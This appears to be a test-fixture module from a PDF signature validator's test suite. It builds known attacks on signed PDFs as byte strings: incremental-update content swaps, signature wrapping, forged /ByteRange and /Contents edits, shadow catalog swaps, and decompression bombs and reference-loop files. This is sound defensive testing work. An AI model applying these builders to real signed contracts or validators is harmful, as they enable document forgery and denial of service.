"""Every attack of security.md A1 built as bytes, plus the honest documents they start from.

Base documents come from pypdf (text pages, a form with a text field, a page tree with a hidden
second catalog); signatures come from pyHanko via :mod:`tests.signing.verifypki`. Attacks are
made the way the papers describe them: byte edits of signed files (USF, tampering, SWA),
incremental updates appended after signing (ISA, EAA, SSA, shadow root swap), or whole files
that are not PDFs at all. Each builder is a pure function of its input bytes.
"""

from __future__ import annotations

import functools
import io
import re
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from unittest import mock

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

CONTRACT_TEXT = "The buyer pays 1000 EUR to the seller."
FORGED_TEXT = "The buyer pays 9000 EUR to the seller."
MB = 1024 * 1024

# --- honest base documents (pypdf) ----------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _content(writer: PdfWriter, text: str) -> object:
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode())
    return writer._add_object(stream)


def _text_writer(pages: int = 1, text: str = CONTRACT_TEXT) -> PdfWriter:
    writer = PdfWriter()
    font = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica")}))
    for number in range(pages):
        page = writer.add_blank_page(595, 842)
        page[NameObject("/Contents")] = _content(writer, f"{text} (page {number + 1})")
        page[NameObject("/Resources")] = DictionaryObject({
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
    return writer


def text_pdf(pages: int = 1) -> bytes:
    """Blank A4 pages with one uncompressed line of contract text each."""
    return _written(_text_writer(pages))


def form_pdf() -> bytes:
    """One text page plus an empty text field ``Company`` (for the permitted form fill)."""
    writer = _text_writer()
    page = writer.pages[0]
    field = DictionaryObject({
        NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("Company"),
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
        NameObject("/F"): NumberObject(4), NameObject("/P"): page.indirect_reference,
        NameObject("/DA"): TextStringObject("/Helv 12 Tf 0 g")})
    ref = writer._add_object(field)
    page[NameObject("/Annots")] = ArrayObject([ref])
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([ref])})
    return _written(writer)


def shadow_pdf() -> bytes:
    """A contract that carries an unreferenced second catalog and page tree with other text
    (what a shadow attacker prepares *before* the victim signs)."""
    writer = _text_writer()
    shadow = _text_writer(text=FORGED_TEXT)
    page = shadow.pages[0]
    font = page["/Resources"]["/Font"]["/F1"].get_object()
    new_page = DictionaryObject({
        NameObject("/Type"): NameObject("/Page"),
        NameObject("/MediaBox"): ArrayObject([NumberObject(v) for v in (0, 0, 595, 842)]),
        NameObject("/Contents"): _content(writer, FORGED_TEXT + " (page 1)"),
        NameObject("/Resources"): DictionaryObject({NameObject("/Font"): DictionaryObject({
            NameObject("/F1"): writer._add_object(DictionaryObject(font))})})})
    page_ref = writer._add_object(new_page)
    pages_ref = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Pages"), NameObject("/Kids"): ArrayObject([page_ref]),
        NameObject("/Count"): NumberObject(1)}))
    new_page[NameObject("/Parent")] = pages_ref
    writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Catalog"),
                                         NameObject("/Pages"): pages_ref}))
    return _written(writer)


def shadow_catalog(data: bytes) -> int:
    """Object number of the pre-planted, unreferenced catalog in a file from :func:`shadow_pdf`."""
    reader = PdfFileReader(io.BytesIO(data))
    live = reader.root_ref.idnum
    numbers = [int(m.group(1)) for m in re.finditer(rb"(\d+) 0 obj\s*<<\s*/Type /Catalog", data)]
    return next(n for n in numbers if n != live)


# --- writing incremental updates ------------------------------------------------------------------


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _finish(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_update(data: bytes, objects: dict[int, bytes], *, root: int | None = None,
               with_xref: bool = True) -> bytes:
    """Append an incremental update by hand: objects, a classic xref section, a trailer.

    ``root`` swaps the trailer's /Root (hide-and-replace); ``with_xref=False`` appends the
    objects alone, as an attacker relying on reader repair would.
    """
    reader = PdfFileReader(io.BytesIO(data))
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not with_xref:
        return bytes(out)
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max([int(reader.trailer_view["/Size"]), *(n + 1 for n in objects)])
    root_ref = root if root is not None else reader.root_ref.idnum
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root_ref, reader.last_startxref, xref_at)
    return bytes(out)


def _page(writer: IncrementalPdfFileWriter, index: int = 0) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][index].get_object()
    return page


def _stream(writer: IncrementalPdfFileWriter, body: bytes,
            extra: dict[str, generic.PdfObject] | None = None) -> generic.IndirectObject:
    stream = generic.StreamObject(dict(extra or {}), stream_data=body)
    return writer.add_object(stream)


def change_page_text(data: bytes) -> bytes:
    """ISA: page 1 gets a new content stream with a different price."""
    writer = _writer(data)
    page = _page(writer)
    page["/Contents"] = _stream(writer, f"BT /F1 14 Tf 72 760 Td ({FORGED_TEXT}) Tj ET".encode())
    writer.update_container(page)
    return _finish(writer)


def add_page(data: bytes) -> bytes:
    """ISA: an extra page appended to the page tree."""
    writer = _writer(data)
    pages = writer.root["/Pages"]
    page = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Page"),
        generic.pdf_name("/Parent"): writer.root.raw_get("/Pages"),
        generic.pdf_name("/MediaBox"): generic.ArrayObject(
            [generic.NumberObject(v) for v in (0, 0, 595, 842)]),
        generic.pdf_name("/Contents"): _stream(writer, b"BT /F1 14 Tf 72 760 Td (Extra) Tj ET"),
        generic.pdf_name("/Resources"): _page(writer)["/Resources"]})
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    return _finish(writer)


def add_annotation(data: bytes, subtype: str = "/FreeText") -> bytes:
    """ISA / EAA: a FreeText or Stamp annotation whose appearance paints over the text."""
    writer = _writer(data)
    page = _page(writer)
    appearance = _stream(writer, f"BT /F1 14 Tf 0 5 Td ({FORGED_TEXT}) Tj ET".encode(), {
        "/Type": generic.pdf_name("/XObject"), "/Subtype": generic.pdf_name("/Form"),
        "/BBox": generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 400, 30)]),
        "/Resources": page["/Resources"]})
    annot = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
        generic.pdf_name("/Subtype"): generic.pdf_name(subtype),
        generic.pdf_name("/Rect"): generic.ArrayObject(
            [generic.NumberObject(v) for v in (70, 752, 470, 782)]),
        generic.pdf_name("/Contents"): generic.TextStringObject(FORGED_TEXT),
        generic.pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        generic.pdf_name("/AP"): generic.DictionaryObject({generic.pdf_name("/N"): appearance})})
    annots = page.get("/Annots", generic.ArrayObject())
    annots = generic.ArrayObject([*annots, writer.add_object(annot)])
    page["/Annots"] = annots
    writer.update_container(page)
    return _finish(writer)


def remap_font(data: bytes) -> bytes:
    """Shadow "replace" through a shared object: the signed page's font is overwritten in
    place so that the glyph for "1" draws a "9" (the price now reads 9000 EUR)."""
    writer = _writer(data)
    font = _page(writer)["/Resources"]["/Font"]["/F1"]
    font["/Encoding"] = generic.DictionaryObject({generic.pdf_name("/Differences"): (
        generic.ArrayObject([generic.NumberObject(49), generic.pdf_name("/nine")]))})
    writer.update_container(font)
    return _finish(writer)


def fill_field(data: bytes, name: str, value: str) -> bytes:
    """Form filling: set a text field's value (with a fresh appearance stream)."""
    writer = _writer(data)
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            field["/V"] = generic.TextStringObject(value)
            field["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): _stream(
                writer, f"/Tx BMC BT /Helv 12 Tf 2 5 Td ({value}) Tj ET EMC".encode(), {
                    "/Type": generic.pdf_name("/XObject"), "/Subtype": generic.pdf_name("/Form"),
                    "/BBox": generic.ArrayObject(
                        [generic.NumberObject(v) for v in (0, 0, 228, 20)])})})
            writer.update_container(field)
    return _finish(writer)


# --- byte-level edits of signed files (USF, tampering, SWA) ---------------------------------------


def signature_span(data: bytes, index: int = -1) -> tuple[int, int, int, int]:
    """``(a, b, c, dict_start)`` of the ``index``-th /ByteRange [0 a b c] in the raw bytes."""
    found = list(re.finditer(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))
    match = found[index]
    a, b, c = (int(g) for g in match.groups())
    return a, b, c, match.start()


def replace_same_length(data: bytes, start: int, end: int, new: bytes) -> bytes:
    """Overwrite ``data[start:end]`` with ``new`` padded by spaces, so no offset moves."""
    assert len(new) <= end - start, (new, end - start)
    return data[:start] + new.ljust(end - start) + data[end:]


def set_contents(data: bytes, new: bytes) -> bytes:
    """Replace the last signature's ``/Contents <...>`` (key included) by ``new``."""
    a, b, _, _ = signature_span(data)
    key = data.rfind(b"/Contents", 0, a)
    return replace_same_length(data, key, b, new)


def set_byte_range(data: bytes, new: bytes) -> bytes:
    """Replace the last signature's ``/ByteRange [...]`` (key included) by ``new``."""
    _, _, _, start = signature_span(data)
    end = data.index(b"]", start) + 1
    return replace_same_length(data, start, end, new)


def flip_byte(data: bytes, position: int) -> bytes:
    """Change one byte; a hex digit stays a hex digit (so only the CMS value changes)."""
    old = data[position:position + 1]
    new = (b"1" if old != b"1" else b"2") if old in b"0123456789abcdefABCDEF" else \
        bytes([old[0] ^ 0x01])
    return data[:position] + new + data[position + 1:]


def cms_signature_offset(data: bytes) -> int:
    """Offset (in the file) of a hex digit inside the last signature's RSA signature value."""
    a, b, _, _ = signature_span(data)
    der = bytes.fromhex(data[a + 1:b - 1].decode())
    content = cms.ContentInfo.load(der)
    value = content["content"]["signer_infos"][0]["signature"].native
    return a + 1 + 2 * (der.index(value) + len(value) // 2)


def content_stream_offset(data: bytes) -> int:
    """Offset of the contract's price digit inside the first (signed) content stream."""
    return data.index(b"1000 EUR")


Builder = Callable[[bytes], bytes]


def _offsets(reader: PdfFileReader, revision: int) -> dict[int, int]:
    """Object number → file offset of the objects a revision's xref section defines."""
    found = {}
    for ref in reader.xrefs.explicit_refs_in_revision(revision):
        at = reader.xrefs.get_historical_ref(ref, revision)
        if isinstance(at, int):
            found[ref.idnum] = at
    return found


def _planted(data: bytes, reader: PdfFileReader, b: int, c: int) -> tuple[int, bytes, bytes]:
    """The SWA payload: a copy of the signature dictionary and a forged page content stream."""
    newest = reader.xrefs.total_revisions - 1
    sig_ref = next(ref for ref in reader.xrefs.explicit_refs_in_revision(newest)
                   if ref.get_object().get("/Type") == "/Sig")
    start = reader.xrefs.get_historical_ref(sig_ref, newest)
    assert isinstance(start, int)
    copied = data[start:b + c].split(b"endobj")[0] + b"endobj\n"
    forged = b"BT /F1 14 Tf 72 760 Td (" + FORGED_TEXT.encode() + b") Tj ET"
    contents = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").reference
    stream = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, _stream_body(forged))
    return sig_ref.idnum, copied, stream


def wrap(data: bytes) -> bytes:
    """SWA (CCS'19): move the signed tail after /Contents to the end of the file, plant a new
    xref at the offset the signed ``startxref`` still points to, and a copied signature
    dictionary whose /ByteRange [0 a c* d] covers the same signed bytes, inside the gap."""
    a, b, c, _ = signature_span(data)
    reader = PdfFileReader(io.BytesIO(data))
    newest = reader.xrefs.total_revisions - 1
    old_xref = reader.last_startxref  # in the signed tail; it must find an xref there again
    sig_number, copied, stream = _planted(data, reader, b, c)
    positions = _offsets(reader, newest)
    xref_room = 40 * (len(positions) + 4) + 200
    copy_at = old_xref + xref_room
    stream_at = copy_at + len(copied)
    tail_at = stream_at + len(stream)
    entries = {n: at if at < a else tail_at + (at - b) for n, at in positions.items()}
    entries.update({sig_number: copy_at, int(stream.split()[0]): stream_at})
    xref = b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % (n, at) for n, at in sorted(entries.items()))
    xref += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        int(reader.trailer_view["/Size"]), reader.root_ref.idnum,
        reader.xrefs.get_startxref_for_revision(newest - 1))
    assert len(xref) <= xref_room
    key = copied.index(b"/ByteRange")
    end = copied.index(b"]", key) + 1
    copied = copied[:key] + (b"/ByteRange [0 %d %d %d]" % (a, tail_at, c)).ljust(end - key) \
        + copied[end:]
    gap = data[a:b] + b" " * (old_xref - b)  # the original /Contents, then padding
    return data[:a] + gap + xref.ljust(xref_room) + copied + stream + data[b:b + c]


# --- hostile files --------------------------------------------------------------------------------


def flate_bomb(prefix: bytes, zeros: int) -> bytes:
    """A zlib stream inflating to ``prefix`` + ``zeros`` zero bytes (a multiple of 1 MiB), made
    in milliseconds: after a full flush every MiB of zeros compresses to the same block, and
    the Adler-32 of a run of zeros is arithmetic (A stays, B grows by n·A)."""
    compressor = zlib.compressobj(9)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()[:-4]
    adler = zlib.adler32(prefix)
    low, high = adler & 0xFFFF, ((adler >> 16) + zeros * (adler & 0xFFFF)) % 65521
    return head + block * (zeros // MB) + end + struct.pack(">I", (high << 16) | low)


def raw_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A classic one-revision PDF from raw object bodies (for files pypdf refuses to write)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[n] if n in offsets else
                    b"0000000000 65535 f \n" for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, xref_at)
    return bytes(out)


def _stream_body(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def bomb_pdf(size: int = 4 * 1024 * MB) -> bytes:
    """PDF101-style: a few MiB on disk, GiBs once the page content stream is inflated."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: _stream_body(flate_bomb(b"", size), b"/Filter /FlateDecode")})


def loop_pdf() -> bytes:
    """Reference loops: a page tree whose kid is its own parent, an object that is itself."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
        2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: b"4 0 R",
        5: b"<< /FT /Sig /T (S) /Kids [5 0 R] /V 6 0 R >>",
        6: b"6 0 R"})


def many_pages_pdf(count: int = 300_000) -> bytes:
    """A page tree claiming and listing a huge number of pages (all the same page object)."""
    kids = b" ".join(b"3 0 R" for _ in range(count))
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"})


# --- the corpus: honest documents, built once per process -----------------------------------------


@dataclass(frozen=True)
class Corpus:
    """Honest signed documents every attack starts from (see :func:`corpus`)."""

    single: bytes  # one approval signature with a signature timestamp
    certified: bytes  # certification P=2 with an empty, pre-created visible field "Alice"
    certified_chain: bytes  # certification P=2 + approvals by Alice and 张三 in their own fields
    form_filled: bytes  # certification P=2, "Company" filled afterwards, then Alice signs
    form_approval: bytes  # a text field, then only an approval signature
    sealed: bytes  # certified_chain + DSS + document timestamp (B-LTA)
    renewed: bytes  # sealed + a second, later document timestamp (archive renewal)
    locked_seal: bytes  # approval, an approval seal with /Lock P=1, a document timestamp
    shadow: bytes  # approval-signed file that carries a pre-planted shadow catalog


@functools.cache
def corpus() -> Corpus:
    from tests.signing import verifypki as vp

    p = vp.pki()
    single = vp.sign(text_pdf(), p.alice, "Alice", reason="Contract agreed")
    certified = vp.sign(text_pdf(), p.seal, "Seal", certify=True, new_fields=("Alice",))
    chain = vp.sign(vp.sign(
        vp.sign(text_pdf(), p.seal, "Seal", certify=True, new_fields=("Alice", "Zhang")),
        p.alice, "Alice", existing_only=True), p.zhang, "Zhang", existing_only=True)
    filled = vp.sign(fill_field(vp.sign(form_pdf(), p.seal, "Seal", certify=True,
                                        new_fields=("Alice",)), "Company", "ACME Ltd"),
                     p.alice, "Alice", existing_only=True)
    sealed = vp.seal(chain)
    locked = vp.document_timestamp(vp.sign(vp.sign(
        fill_field(form_pdf(), "Company", "ACME Ltd"), p.alice, "Alice"),
        p.seal, "Seal", lock_p1=True))
    return Corpus(single=single, certified=certified, certified_chain=chain,
                  form_filled=filled, form_approval=vp.sign(form_pdf(), p.alice, "Alice"),
                  sealed=sealed, renewed=vp.document_timestamp(sealed), locked_seal=locked,
                  shadow=vp.sign(shadow_pdf(), p.alice, "Alice"))


def remove_value(data: bytes) -> bytes:
    """USF taken to the end: the field's /V (the only link to the signature) is blanked."""
    match = list(re.finditer(rb"/V \d+ 0 R", data))[-1]
    return replace_same_length(data, match.start(), match.end(), b"")


def swap_root(data: bytes, *, keep_form: bool = False) -> bytes:
    """Hide-and-replace: an update whose trailer points /Root at the pre-planted catalog;
    ``keep_form`` writes a new catalog that also keeps the signed form (signature still
    listed)."""
    shadow = shadow_catalog(data)
    if not keep_form:
        return raw_update(data, {}, root=shadow)
    reader = PdfFileReader(io.BytesIO(data))
    pages = reader.get_object(generic.Reference(shadow, 0))["/Pages"]
    form = reader.root.raw_get("/AcroForm")
    number = int(reader.trailer_view["/Size"])
    body = b"<< /Type /Catalog /Pages %d 0 R /AcroForm %d 0 R >>" % (
        pages.container_ref.idnum, form.reference.idnum)
    return raw_update(data, {number: body}, root=number)


def certify_after_approval(data: bytes) -> bytes:
    """A certification signature added after an approval one (pyHanko refuses; an attacker's
    tool does not)."""
    from tests.signing import verifypki as vp

    with mock.patch("pyhanko.sign.signers.pdf_signer._signatures_exist", return_value=False):
        return vp.sign(data, vp.pki().seal, "Late", certify=True)


def append_without_xref(data: bytes, size: int = 60) -> bytes:
    """ISA relying on reader repair: a replacement content stream, no xref, no trailer."""
    forged = b"BT /F1 14 Tf 72 760 Td (" + FORGED_TEXT.encode() + b") Tj ET"
    body = (forged + b" " * max(0, size - len(forged)))
    number = int(PdfFileReader(io.BytesIO(data)).root["/Pages"]["/Kids"][0].get_object()
                 .raw_get("/Contents").reference.idnum)
    return raw_update(data, {number: _stream_body(body)}, with_xref=False)


def objstm_bomb(size: int = 4 * 1024 * MB) -> bytes:
    """The catalog and page tree live in an object stream that inflates to GiBs, indexed by a
    cross-reference stream: merely opening the file has to inflate it."""
    members = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
               2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"}
    index, body = b"", b""
    for number, obj in members.items():
        index += b"%d %d " % (number, len(body))
        body += obj + b" "
    packed = flate_bomb(index + body, size)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    objstm_at = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\n" \
           b"stream\n%s\nendstream\nendobj\n" % (len(index), len(packed), packed)
    xref_at = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(
        struct.pack(">BIH", 2, 4, i) for i in range(3)) + struct.pack(">BIH", 1, objstm_at, 0) \
        + struct.pack(">BIH", 1, xref_at, 0)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" \
           % len(rows) + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)
